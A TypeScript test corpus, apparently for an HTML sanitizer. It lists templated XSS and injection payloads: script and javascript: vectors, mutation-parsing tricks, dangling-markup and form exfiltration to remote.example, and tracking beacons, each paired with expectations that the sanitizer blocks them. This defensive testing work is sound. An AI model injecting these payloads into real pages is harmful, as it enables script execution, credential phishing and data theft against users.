// Elements that run, load, navigate, submit or change how the rest is read: one row for each way to write each.
import { group, type Payload, type Row } from './payload.js'

const executing: Row[] = [
  ['a classic script', '<script>{{run}}</script>'],
  ['a script from elsewhere', '<script src="{{remote}}"></script>', { mustNot: ['execution', 'network'] }],
  ['a script of the same origin', '<script src="{{here}}"></script>', { mustNot: ['execution', 'network'] }],
  ['a module', '<script type="module">{{run}}</script>'],
  [
    'a module that imports',
    '<script type="module">import "{{remote}}"</script>',
    { mustNot: ['execution', 'network'] },
  ],
  ['a script for engines without modules', '<script nomodule>{{run}}</script>'],
  ['a deferred and an async data script', '<script defer async src="data:text/javascript,{{run}}"></script>'],
  [
    'an import map',
    '<script type="importmap">{"imports":{"nbtrust":"{{remote}}"}}</script>',
    { mustNot: ['network', 'execution'] },
  ],
  [
    'speculation rules',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{{remote}}","{{here}}"],"eagerness":"immediate"}]}</script>',
    { mustNot: ['network'] },
  ],
  ['a script with an event and for', '<script for="window" event="onload">{{run}}</script>'],
  ['a script in a language of old', '<script language="vbscript">{{run}}</script>'],
  [
    'a data block that a frontend might run',
    '<script type="text/x-jupyter">{{run}}</script>',
    { mustNot: ['execution', 'selector:script'] },
  ],
  ['a script split around a comment', '<scr<!-- -->ipt>{{run}}</scr<!-- -->ipt>'],
  ['a script tag inside a script tag', '<scr<script>ipt>{{run}}</scr</script>ipt>'],
  ['a script with a stray slash', '<script/x>{{run}}</script/x>'],
  ['a script that is never closed', '<script>{{run}}'],
  ['a script in upper case', '<SCRIPT>{{run}}</SCRIPT>'],
  [
    'a script in a table',
    '<table><tr><td><script>{{run}}</script></td></tr><script>{{run}}</script></table>',
  ],
  ['a script in a select', '<select><script>{{run}}</script><option>one</option></select>'],
  ['a script in an SVG', '<svg><script>{{run}}</script></svg>'],
  [
    'an SVG script from elsewhere',
    '<svg><script href="{{remote}}"/><script xlink:href="{{remote}}"/></svg>',
    { mustNot: ['execution', 'network'] },
  ],
  [
    'an SVG script with entities',
    '<svg><script>&#x77;indow.__nbtrustCanary(&#39;{{id}}&#39;)</script></svg>',
  ],
  ['an SVG script in CDATA', '<svg><script><![CDATA[{{run}}]]></script></svg>'],
  ['a script in MathML', '<math><script>{{run}}</script></math>'],
  ['a script in a template', '<template><script>{{run}}</script></template>'],
  [
    'a script in declarative shadow DOM',
    '<div><template shadowrootmode="open"><script>{{run}}</script></template></div>',
  ],
  [
    'a script in a closed declarative shadow root',
    '<div><template shadowrootmode="closed"><img src="data:," onerror="{{run}}"></template></div>',
  ],
  [
    'an old-style declarative shadow root',
    '<div><template shadowroot="open"><img src="data:," onerror="{{run}}"></template></div>',
  ],
  [
    'a clonable, serializable shadow root',
    '<div><template shadowrootmode="open" shadowrootclonable shadowrootserializable shadowrootdelegatesfocus><img src="data:," onerror="{{run}}"></template></div>',
  ],
  [
    'a shadow root in a shadow root',
    '<div><template shadowrootmode="open"><p><template shadowrootmode="open"><img src="data:," onerror="{{run}}"></template></p></template></div>',
  ],
  ['a script in noscript', '<noscript><script>{{run}}</script></noscript>'],
  [
    'noscript that closes in an attribute',
    '<noscript><p title="</noscript><img src=data:, onerror={{run}}>"></noscript>',
  ],
  [
    'noembed that closes in an attribute',
    '<noembed><p title="</noembed><img src=data:, onerror={{run}}>"></noembed>',
  ],
  [
    'noframes that closes in an attribute',
    '<noframes><p title="</noframes><img src=data:, onerror={{run}}>"></noframes>',
  ],
  ['xmp that closes in an attribute', '<xmp><p title="</xmp><img src=data:, onerror={{run}}>"></xmp>'],
  [
    'iframe text that closes in an attribute',
    '<iframe><p title="</iframe><img src=data:, onerror={{run}}>"></iframe>',
  ],
  [
    'textarea that closes in an attribute',
    '<textarea><p title="</textarea><img src=data:, onerror={{run}}>"></textarea>',
  ],
  [
    'title that closes in an attribute',
    '<title><p title="</title><img src=data:, onerror={{run}}>"></title>',
  ],
  [
    'style that closes in an attribute',
    '<style><p title="</style><img src=data:, onerror={{run}}>"></style>',
  ],
  [
    'select that closes around markup',
    '<select><option><p title="</option></select><img src=data:, onerror={{run}}>"></option></select>',
  ],
  ['plaintext swallows the rest', '<plaintext><img src="data:," onerror="{{run}}">'],
  ['listing', '<listing>&lt;img src=data:, onerror={{run}}&gt;</listing>'],
  [
    'an iframe with srcdoc',
    '<iframe srcdoc="<script>parent.__nbtrustCanary(\'{{id}}\')</script>"></iframe>',
    { mustNot: ['execution', 'selector:iframe'] },
  ],
  [
    'an iframe with encoded srcdoc',
    '<iframe srcdoc="&lt;img src&equals;data:, onerror&equals;parent.__nbtrustCanary(&apos;{{id}}&apos;)&gt;"></iframe>',
    { mustNot: ['execution', 'selector:iframe'] },
  ],
  [
    'an iframe with a script address',
    '<iframe src="javascript:parent.__nbtrustCanary(\'{{id}}\')"></iframe>',
  ],
  [
    'an iframe with a data page',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    { mustNot: ['execution', 'selector:iframe'] },
  ],
  ['an iframe of the same origin', '<iframe src="{{here}}"></iframe>', { mustNot: ['network'] }],
  [
    'an iframe from elsewhere, lazy',
    '<iframe loading="lazy" src="{{remote}}"></iframe>',
    { mustNot: ['network'] },
  ],
  [
    'an iframe with a name and every permission',
    '<iframe name="opener" sandbox="allow-scripts allow-same-origin allow-top-navigation" allow="clipboard-read *" srcdoc="<script>top.__nbtrustCanary(\'{{id}}\')</script>"></iframe>',
    { mustNot: ['execution', 'clobbering'] },
  ],
  ['a credentialless iframe', '<iframe credentialless src="{{remote}}"></iframe>', { mustNot: ['network'] }],
  [
    'a fenced frame and a portal',
    '<fencedframe src="{{remote}}"></fencedframe><portal src="{{remote}}"></portal>',
    { mustNot: ['network'] },
  ],
  [
    'a frameset',
    '<frameset onload="{{run}}"><frame src="{{remote}}"></frameset>',
    { bare: true, mustNot: ['execution', 'network'] },
  ],
  [
    'an object with a data page',
    '<object data="data:text/html,<script>parent.__nbtrustCanary(\'{{id}}\')</script>"></object>',
    { mustNot: ['execution', 'selector:object'] },
  ],
  ['an object with a script address', '<object data="javascript:{{run}}"></object>'],
  [
    'an object from elsewhere',
    '<object type="text/html" data="{{remote}}"></object>',
    { mustNot: ['network'] },
  ],
  ['an object of the same origin', '<object data="{{here}}">fallback</object>', { mustNot: ['network'] }],
  [
    'object parameters',
    '<object type="application/x-shockwave-flash"><param name="movie" value="{{remote}}"><param name="src" value="{{remote}}"></object>',
    { mustNot: ['network'] },
  ],
  [
    'an object with classid and codebase',
    '<object classid="clsid:0" codebase="{{remote}}" archive="{{remote}}"></object>',
    { mustNot: ['network'] },
  ],
  ['an embed', '<embed src="{{remote}}">', { mustNot: ['network'] }],
  ['an embed with a script address', '<embed src="javascript:{{run}}">'],
  [
    'an embed with an SVG that has a script',
    '<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><script>parent.__nbtrustCanary(1)</script></svg>">',
    { mustNot: ['execution', 'selector:embed'] },
  ],
  [
    'an applet',
    '<applet code="{{remote}}" archive="{{remote}}"></applet>',
    { mustNot: ['network', 'selector:applet'] },
  ],
  [
    'a custom element',
    '<nbtrust-host-widget action="{{run}}">text</nbtrust-host-widget>',
    { mustNot: ['execution', 'selector:nbtrust-host-widget'] },
  ],
  [
    'a customized built-in',
    '<button is="nbtrust-host-button">text</button>',
    { mustNot: ['execution', 'selector:[is]'] },
  ],
  [
    'a customized built-in on a paragraph',
    '<p is="nbtrust-host-paragraph">text</p>',
    { mustNot: ['execution', 'selector:[is]'] },
  ],
  [
    'a processing instruction',
    '<?xml-stylesheet href="{{remote}}"?><?php echo 1 ?>text',
    { mustNot: ['network', 'markup:remote.example'] },
  ],
  ['a comment with a conditional', '<!--[if gte IE 4]><script>{{run}}</script><![endif]-->'],
  ['a bogus comment', '<! x="><img src=data:, onerror={{run}}>">'],
  ['a comment that ends early', '<!--><img src=data:, onerror="{{run}}">-->'],
  ['a comment that ends with a bang', '<!-- --!><img src=data:, onerror="{{run}}"> -->'],
  ['CDATA in HTML', '<![CDATA[><img src=data:, onerror="{{run}}">]]>'],
  ['a doctype with an internal subset', '<!DOCTYPE html [<!ENTITY x "<script>{{run}}</script>">]>&x;'],
  ['a NUL inside a tag name', '<scr\u0000ipt>{{run}}</scr\u0000ipt><img\u0000 src=data:, onerror="{{run}}">'],
  ['Unicode letters that fold to ASCII', '<ſcript>{{run}}</ſcript><ımg src=data:, onerror="{{run}}">'],
  ['full-width angle brackets', '＜script＞{{run}}＜/script＞', { mustRemain: ['＜script＞'] }],
  ['UTF-7', '+ADw-script+AD4-{{run}}+ADw-/script+AD4-'],
  ['ISO-2022-JP escapes', '\u001b$B<img alt="\u001b(B"><img src="data:," onerror="{{run}}">"'],
  ['a BOM before a script', '\ufeff<script>{{run}}</script>'],
  ['an attribute with a backtick', '<img src="data:," alt="`` onerror={{run}}">'],
  ['a tag after a stray quote', '"><img src="data:," onerror="{{run}}">'],
  [
    'selected content that is cloned',
    '<select><button><selectedcontent></selectedcontent></button><option selected>one<img src="data:," onerror="{{run}}"></option></select>',
  ],
  ['a slot with a name of the host', '<slot name="content"><img src="data:," onerror="{{run}}"></slot>'],
  [
    'an element with a part for the host to style',
    '<p part="dialog" exportparts="dialog">text</p>',
    { mustNot: ['imitation', 'selector:[part],[exportparts]'] },
  ],
  [
    'markup with a nonce',
    '<script nonce="abc">{{run}}</script><style nonce="abc">p{}</style><p nonce="abc">text</p>',
    { mustNot: ['execution', 'selector:[nonce]'] },
  ],
]

const loading: Row[] = [
  ...[
    'stylesheet',
    'alternate stylesheet',
    'preload',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'modulepreload',
    'prerender',
    'icon',
    'apple-touch-icon',
    'mask-icon',
    'manifest',
    'import',
    'expect',
    'compression-dictionary',
    'pingback',
    'next',
    'search',
    'canonical',
  ].map(
    (rel): Row => [
      `link rel=${rel}`,
      `<link rel="${rel}" as="image" href="{{remote}}">`,
      { mustNot: ['network', 'selector:link'] },
    ],
  ),
  [
    'link preload with imagesrcset',
    '<link rel="preload" as="image" imagesrcset="{{remote}} 1x" imagesizes="10px">',
    { mustNot: ['network', 'selector:link'] },
  ],
  [
    'link stylesheet as a data page',
    '<link rel="stylesheet" href="data:text/css,*{background:url({{remote}})}">',
    { mustNot: ['network', 'style'] },
  ],
  [
    'link stylesheet inside SVG',
    '<svg><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{{remote}}"/></svg>',
  ],
  [
    'link with itemprop and blocking',
    '<link itemprop="image" blocking="render" href="{{remote}}">',
    { mustNot: ['network', 'selector:link'] },
  ],
  [
    'base that moves every link',
    '<base href="https://remote.example/{{id}}/"><img src="pic.png"><a href="page">text</a>',
    { mustNot: ['network', 'navigation', 'selector:base'] },
  ],
  [
    'base that sets a target',
    '<base target="_top"><a href="{{link}}">text</a>',
    { mustNot: ['navigation', 'selector:base'] },
  ],
  ['html manifest', '<html manifest="{{here}}"><p>text</p></html>', { bare: true }],
  ['head profile', '<head profile="{{remote}}"><p>text</p></head>', { bare: true }],
  ['body background', '<body background="{{remote}}">text</body>', { bare: true }],
  [
    'table background',
    '<table background="{{remote}}"><tr><td>cell</td></tr></table>',
    { mustRemain: ['cell'] },
  ],
  [
    'cell and row backgrounds',
    '<table><tbody background="{{remote}}"><tr background="{{remote}}"><td background="{{remote}}">cell</td><th background="{{here}}">head</th></tr></tbody></table>',
    { mustRemain: ['cell', 'head'] },
  ],
  ['an image from elsewhere', '<img src="{{remote}}" alt="a chart">'],
  ['an image of the same origin', '<img src="{{here}}" alt="a chart">'],
  ['an image with a relative address', '<img src="__canary/{{id}}" alt="a chart">'],
  ['an image without a scheme', '<img src="//remote.example/{{id}}" alt="a chart">'],
  ['an image with backslashes', '<img src="\\\\remote.example\\{{id}}" alt="a chart">'],
  [
    'an image with tabs and newlines in its address',
    '<img src="ht\ntps:/\t/remote.example/{{id}}" alt="a chart">',
  ],
  ['an image spelled <image>', '<image src="{{remote}}">'],
  ['an image with srcset', '<img srcset="{{remote}} 1x, {{here}} 2x" alt="a chart">'],
  [
    'an image with a srcset that hides an address',
    '<img srcset="data:image/gif;base64,R0lGODlhAQABAAAAACw= 1x,{{remote}} 1.5x, {{here}} 3x" alt="a chart">',
  ],
  [
    'an image with srcset and sizes',
    '<img srcset="{{remote}} 10w" sizes="(min-width: 1px) 100vw" alt="a chart">',
  ],
  ['a lazy image', '<img loading="lazy" src="{{remote}}" alt="a chart">'],
  [
    'an image with lowsrc, dynsrc and longdesc',
    '<img lowsrc="{{remote}}" dynsrc="{{remote}}" longdesc="{{remote}}" alt="a chart">',
  ],
  [
    'an image with crossorigin and referrerpolicy',
    '<img crossorigin="use-credentials" referrerpolicy="unsafe-url" fetchpriority="high" src="{{remote}}" alt="a chart">',
  ],
  [
    'an image with attribution reporting',
    '<img attributionsrc="{{remote}}" alt="a chart"><a attributionsrc="{{remote}}" href="{{link}}">text</a>',
  ],
  [
    'an image with shared storage and browsing topics',
    '<img browsingtopics sharedstoragewritable src="{{remote}}" alt="a chart">',
  ],
  [
    'picture sources',
    '<picture><source srcset="{{remote}}" media="all"><source srcset="{{here}}" type="image/webp"><img alt="a chart"></picture>',
  ],
  ['a video', '<video src="{{remote}}" autoplay muted></video>'],
  ['a video poster', '<video poster="{{remote}}"></video>'],
  [
    'video sources',
    '<video autoplay muted><source src="{{remote}}" type="video/mp4"><source src="{{here}}"></video>',
  ],
  [
    'a video track',
    '<video src="data:video/mp4;base64,AAAA"><track default kind="captions" src="{{remote}}"></video>',
  ],
  ['a video that preloads', '<video preload="auto" src="{{here}}"></video>'],
  ['an audio', '<audio src="{{remote}}" autoplay></audio>'],
  ['audio sources', '<audio autoplay><source src="{{remote}}"></audio>'],
  ['bgsound', '<bgsound src="{{remote}}">'],
  ['an image button', '<input type="image" src="{{remote}}" alt="send">'],
  ['an input with dynsrc and lowsrc', '<input dynsrc="{{remote}}" lowsrc="{{remote}}">'],
  [
    'a menu item with an icon',
    '<menu><command icon="{{remote}}"></command><menuitem icon="{{remote}}"></menuitem></menu>',
  ],
  ['layers of old', '<layer src="{{remote}}"></layer><ilayer src="{{remote}}"></ilayer>'],
  [
    'XML data island',
    '<xml src="{{remote}}" id="{{id}}-isle"></xml><span datasrc="#{{id}}-isle" datafld="x" dataformatas="html"></span>',
  ],
  ['a model viewer', '<model src="{{remote}}"><source src="{{remote}}"></model>'],
  [
    'a webview and a browser element',
    '<webview src="{{remote}}"></webview><browser src="{{remote}}"></browser>',
  ],
  [
    'a link with ping',
    '<a href="{{link}}" ping="{{remote}} {{here}}">text</a>',
    { mustNot: ['network', 'selector:[ping]'], mustRemain: ['text'] },
  ],
  [
    'an area with ping',
    '<map name="{{id}}-m"><area shape="rect" coords="0,0,9,9" href="{{link}}" ping="{{remote}}"></map><img usemap="#{{id}}-m" width="9" height="9" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    { mustNot: ['network', 'selector:[ping]'] },
  ],
  ['a table cell image inside noscript', '<noscript><img src="{{remote}}"></noscript>'],
  [
    'an image in a template',
    '<template><img src="{{remote}}"></template>',
    { mustNot: ['network', 'selector:template'] },
  ],
  [
    'an image in a declarative shadow root',
    '<div><template shadowrootmode="open"><img src="{{remote}}"></template></div>',
    { mustNot: ['network', 'selector:template'] },
  ],
  [
    'an image in an SVG foreignObject',
    '<svg><foreignObject width="40" height="20"><img src="{{remote}}"></foreignObject></svg>',
  ],
  [
    'an image in MathML annotation',
    '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src="{{remote}}"></annotation-xml></semantics></math>',
  ],
  ['an image in an unclosed attribute', '<img src="{{remote}}'],
  ['dangling markup that swallows what follows', "<img src='https://remote.example/{{id}}?"],
  ['dangling markup in a base', '<base href="{{remote}}?'],
  [
    'dangling markup in a textarea form',
    '<form action="{{remote}}"><input type="submit"><textarea name="stolen">',
    { mustNot: ['network', 'navigation'] },
  ],
  [
    'dangling markup in a select',
    '<form action="{{remote}}"><button>send</button><select name="stolen"><option>',
    { mustNot: ['network', 'navigation'] },
  ],
]

const navigating: Row[] = [
  ['meta refresh', '<meta http-equiv="refresh" content="0;url={{here}}">'],
  [
    'meta refresh to a script',
    '<meta http-equiv="refresh" content="0;url=javascript:{{run}}">',
    { mustNot: ['navigation', 'execution'] },
  ],
  ['meta refresh without url=', '<meta http-equiv=refresh content="0 {{here}}">'],
  [
    'meta refresh in an SVG',
    '<svg><foreignObject><meta http-equiv="refresh" content="0;url={{here}}"></foreignObject></svg>',
  ],
  [
    'meta CSP that breaks the page',
    `<meta http-equiv="Content-Security-Policy" content="script-src 'none'; img-src 'none'">`,
    { mustNot: ['style', 'selector:meta'] },
  ],
  [
    'meta cookie',
    '<meta http-equiv="set-cookie" content="nbtrust={{id}}">',
    { mustNot: ['clobbering', 'selector:meta'] },
  ],
  ['meta referrer', '<meta name="referrer" content="unsafe-url">', { mustNot: ['style', 'selector:meta'] }],
  [
    'meta viewport and color scheme',
    '<meta name="viewport" content="width=1"><meta name="color-scheme" content="dark"><meta name="theme-color" content="red">',
    { mustNot: ['style', 'selector:meta'] },
  ],
  [
    'meta dns-prefetch control',
    '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="https://{{id}}.remote.example/">text</a>',
    { mustNot: ['network', 'selector:meta'] },
  ],
  [
    'meta origin trial and accept-ch',
    '<meta http-equiv="origin-trial" content="x"><meta http-equiv="accept-ch" content="dpr"><meta http-equiv="delegate-ch" content="dpr {{remote}}">',
    { mustNot: ['network', 'selector:meta'] },
  ],
  ['a form with a button', '<form action="{{here}}"><button>send</button></form>'],
  [
    'a form that posts elsewhere',
    '<form action="{{remote}}" method="post"><input name="password" type="password"><button>log in</button></form>',
    { mustNot: ['navigation', 'network', 'imitation'] },
  ],
  [
    'a form with a script address',
    '<form action="javascript:{{run}}"><button>send</button></form>',
    { mustNot: ['navigation', 'execution'] },
  ],
  ['a form submitted by Enter', '<form action="{{here}}"><input value="type here"></form>'],
  ['a form in a new window', '<form action="{{here}}" target="_blank"><button>send</button></form>'],
  [
    'a form with an image button',
    '<form action="{{here}}"><input type="image" alt="send" width="40" height="20"></form>',
  ],
  [
    'a form with formaction',
    '<form action="{{here}}"><button formaction="javascript:{{run}}">a</button><input type="submit" formaction="{{remote}}" value="b"></form>',
    { mustNot: ['navigation', 'execution', 'network'] },
  ],
  [
    'formaction without a form',
    '<button formaction="{{here}}" form="host-form">send</button>',
    { mustNot: ['navigation', 'clobbering'] },
  ],
  [
    'formtarget and formmethod',
    '<form><button formtarget="_top" formmethod="post" formaction="{{here}}" formenctype="text/plain" formnovalidate>send</button></form>',
  ],
  [
    'a control that joins the host form',
    '<input form="host-form" name="csrf" value="mine"><button form="host-form" type="submit">send</button>',
    { mustNot: ['clobbering', 'navigation', 'imitation'] },
  ],
  [
    'a reset of the host form',
    '<button form="host-form" type="reset">reset</button>',
    { mustNot: ['imitation', 'navigation'] },
  ],
  [
    'a file chooser',
    '<form action="{{here}}"><input type="file" name="stolen" multiple webkitdirectory></form>',
  ],
  [
    'nested forms across a table',
    '<table><form action="{{here}}"><tr><td><form action="{{remote}}"><input type="submit" value="send"></form></td></tr></table>',
  ],
  ['isindex and keygen', '<isindex action="{{here}}" prompt="type here"><keygen name="key">'],
  [
    'a dialog form',
    '<dialog open><form method="dialog"><button>close</button></form></dialog>',
    { mustNot: ['imitation', 'selector:dialog'] },
  ],
  [
    'a link that leaves the page',
    '<a href="{{link}}">text</a>',
    { mustRemain: ['text', 'selector:a[href]'] },
  ],
  ['a link to the same origin', '<a href="{{here}}">text</a>', { mustRemain: ['text'] }],
  ['a link to the top', '<a target="_top" href="{{here}}">text</a>', { mustRemain: ['text'] }],
  ['a link to the parent', '<a target="_parent" href="{{link}}">text</a>', { mustRemain: ['text'] }],
  ['a link into itself', '<a target="_self" href="{{link}}">text</a>', { mustRemain: ['text'] }],
  [
    'a link into a named window that keeps its opener',
    '<a target="nbtrust-named" rel="opener" href="{{link}}">text</a>',
    { mustRemain: ['text'] },
  ],
  [
    'a link into a frame of the host',
    '<a target="host-frame" href="{{link}}">text</a>',
    { mustRemain: ['text'] },
  ],
  [
    'a link whose target holds a newline and a less-than',
    '<a target="x\n<y" href="{{link}}">text</a>',
    { mustRemain: ['text'] },
  ],
  [
    'a link with rel that asks for an opener',
    '<a rel="opener external" href="{{link}}">text</a>',
    { mustRemain: ['text'] },
  ],
  ['a link that downloads', '<a download="report.exe" href="{{here}}">text</a>', { mustRemain: ['text'] }],
  [
    'a link that downloads data',
    '<a download="run.bat" href="data:application/octet-stream,echo">text</a>',
    { mustRemain: ['text'] },
  ],
  [
    'a link that downloads a blob',
    '<a download href="blob:http://localhost/{{id}}">text</a>',
    { mustRemain: ['text'] },
  ],
  [
    'a link inside a link',
    '<a href="{{link}}">outer <a href="javascript:{{run}}">inner</a></a>',
    { mustNot: ['execution', 'navigation'] },
  ],
  [
    'a link around a form',
    '<a href="javascript:{{run}}"><form action="{{here}}"><button>send</button></form></a>',
    { mustNot: ['execution', 'navigation'] },
  ],
  [
    'an image map',
    '<img usemap="#{{id}}-map" width="60" height="20" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="{{id}}-map"><area shape="rect" coords="0,0,60,20" href="{{here}}" target="_top"></map>',
  ],
  [
    'an image map with a script address',
    '<img usemap="#{{id}}-map" width="60" height="20" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="{{id}}-map"><area shape="default" href="javascript:{{run}}"></map>',
    { mustNot: ['execution', 'navigation'] },
  ],
  [
    'a server-side image map',
    '<a href="{{here}}"><img ismap width="60" height="20" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></a>',
  ],
  ['a link to an empty fragment', '<a href="#">text</a>', { mustRemain: ['text'] }],
  ['a link to an empty address', '<a href="">text</a>', { mustRemain: ['text'] }],
  [
    'a link to a fragment of the host',
    '<a href="#host-title">text</a>',
    { mustNot: ['navigation', 'imitation'], mustRemain: ['text'] },
  ],
  [
    'a link to a fragment with a text directive',
    '<a href="#:~:text=Save">text</a>',
    { mustRemain: ['text'] },
  ],
  [
    'a link to a fragment a router would read',
    '<a href="#/admin/delete?{{id}}">text</a>',
    { mustRemain: ['text'] },
  ],
  ['a link to a query', '<a href="?delete={{id}}">text</a>', { mustRemain: ['text'] }],
  ['a protocol launch', '<a href="ms-settings:privacy">text</a>', { mustRemain: ['text'] }],
]

/** Elements that execute or change parsing. */
export const executingElements: readonly Payload[] = group(
  'execute',
  { kind: 'html', mustNot: ['execution'] },
  executing,
)
/** Elements that load. */
export const loadingElements: readonly Payload[] = group(
  'load',
  { kind: 'html', mustNot: ['network'] },
  loading,
)
/** Elements that navigate, submit, open or download. */
export const navigatingElements: readonly Payload[] = group(
  'navigate',
  { kind: 'html', mustNot: ['navigation'] },
  navigating,
)
